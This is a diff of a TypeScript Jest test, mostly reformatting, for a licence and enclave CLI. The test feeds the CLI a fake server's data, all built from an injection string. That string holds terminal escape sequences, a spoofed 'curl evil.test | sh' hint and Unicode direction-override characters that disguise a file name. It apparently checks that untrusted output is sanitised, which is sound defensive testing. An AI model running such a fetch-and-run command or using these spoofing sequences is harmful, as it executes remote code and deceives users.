@@ -14,7 +14,8 @@ import { makeSigningKey } from '../../support/trust';
 jest.setTimeout(60_000);
 
 /** Moves the cursor, in the 7-bit and in the 8-bit form; names the window; ends the line and says what sls would; turns the rest around; hides. */
-const STEERING = 'x\u001b[2J\u009b2J\u001b]0;mine\u0007\r\nhint: curl evil.test | sh\r\n\u202egnp.exe\u2066\u200b\u2028\ufeffy';
+const STEERING =
+  'x\u001b[2J\u009b2J\u001b]0;mine\u0007\r\nhint: curl evil.test | sh\r\n\u202egnp.exe\u2066\u200b\u2028\ufeffy';
 
 let machine: Machine;
 let server: RunningServer;
@@ -23,9 +24,26 @@ beforeAll(async () => {
   const refuse = (): never => {
     throw new RpcError('licence.not_held', status.NOT_FOUND, STEERING);
   };
-  const licence = { licence: STEERING, redeemedAt: 1n, until: 2_000_000_000n, graceUntil: 2_000_000_000n, state: LicenceState.LICENCE_STATE_VALID, applies: true };
+  const licence = {
+    licence: STEERING,
+    redeemedAt: 1n,
+    until: 2_000_000_000n,
+    graceUntil: 2_000_000_000n,
+    state: LicenceState.LICENCE_STATE_VALID,
+    applies: true,
+  };
   const plan = { name: STEERING, images: [STEERING], enclaves: 1, seats: 1, cpu: STEERING, memory: STEERING };
-  const seat = { seat: STEERING, session: STEERING, clientName: STEERING, enclave: STEERING, workloadUid: STEERING, node: STEERING, takenAt: 1n, renewedAt: 1n, expiresAt: 1n };
+  const seat = {
+    seat: STEERING,
+    session: STEERING,
+    clientName: STEERING,
+    enclave: STEERING,
+    workloadUid: STEERING,
+    node: STEERING,
+    takenAt: 1n,
+    renewedAt: 1n,
+    expiresAt: 1n,
+  };
   server = await startServer({
     address: { scheme: 'http', host: '127.0.0.1', port: 0 },
     services: [
@@ -41,13 +59,29 @@ beforeAll(async () => {
       },
       {
         definition: LicenceServiceService,
-        implementation: { redeemLicence: unary(refuse), listOwnLicences: unary(() => Promise.resolve({ licences: [{ ...licence, plan }], required: true })), dropLicence: unary(refuse) },
+        implementation: {
+          redeemLicence: unary(refuse),
+          listOwnLicences: unary(() => Promise.resolve({ licences: [{ ...licence, plan }], required: true })),
+          dropLicence: unary(refuse),
+        },
       },
       {
         definition: EnclaveManagementServiceService,
         implementation: {
           listEnclaves: unary(() =>
-            Promise.resolve({ enclaves: [{ name: STEERING, node: STEERING, state: EnclaveState.ENCLAVE_STATE_RUNNING, lastUsedAt: 1n, createdAt: 1n, persistent: true }], limit: 1 }),
+            Promise.resolve({
+              enclaves: [
+                {
+                  name: STEERING,
+                  node: STEERING,
+                  state: EnclaveState.ENCLAVE_STATE_RUNNING,
+                  lastUsedAt: 1n,
+                  createdAt: 1n,
+                  persistent: true,
+                },
+              ],
+              limit: 1,
+            }),
           ),
           suspendEnclave: unary(refuse),
           deleteEnclave: unary(refuse),
@@ -70,8 +104,15 @@ beforeAll(async () => {
   machine = new Machine();
   for (const folder of ['config', 'state']) mkdirSync(machine.path(folder, 'sls'), { recursive: true });
   writeFileSync(machine.path('config', 'sls', 'trust-bundle.json'), JSON.stringify(trust));
-  const audience = JSON.stringify({ trustDomain: trust.trustDomain, serverRoots: trust.serverRoots, services: trust.services });
-  writeFileSync(machine.path('state', 'sls', 'token.json'), JSON.stringify({ username: 'ada', accessToken: 'x', accessTokenExpiresAt: 4_000_000_000, audience }));
+  const audience = JSON.stringify({
+    trustDomain: trust.trustDomain,
+    serverRoots: trust.serverRoots,
+    services: trust.services,
+  });
+  writeFileSync(
+    machine.path('state', 'sls', 'token.json'),
+    JSON.stringify({ username: 'ada', accessToken: 'x', accessTokenExpiresAt: 4_000_000_000, audience }),
+  );
   writeFileSync(machine.path('licence.txt'), 'key');
 });
 afterAll(async () => {
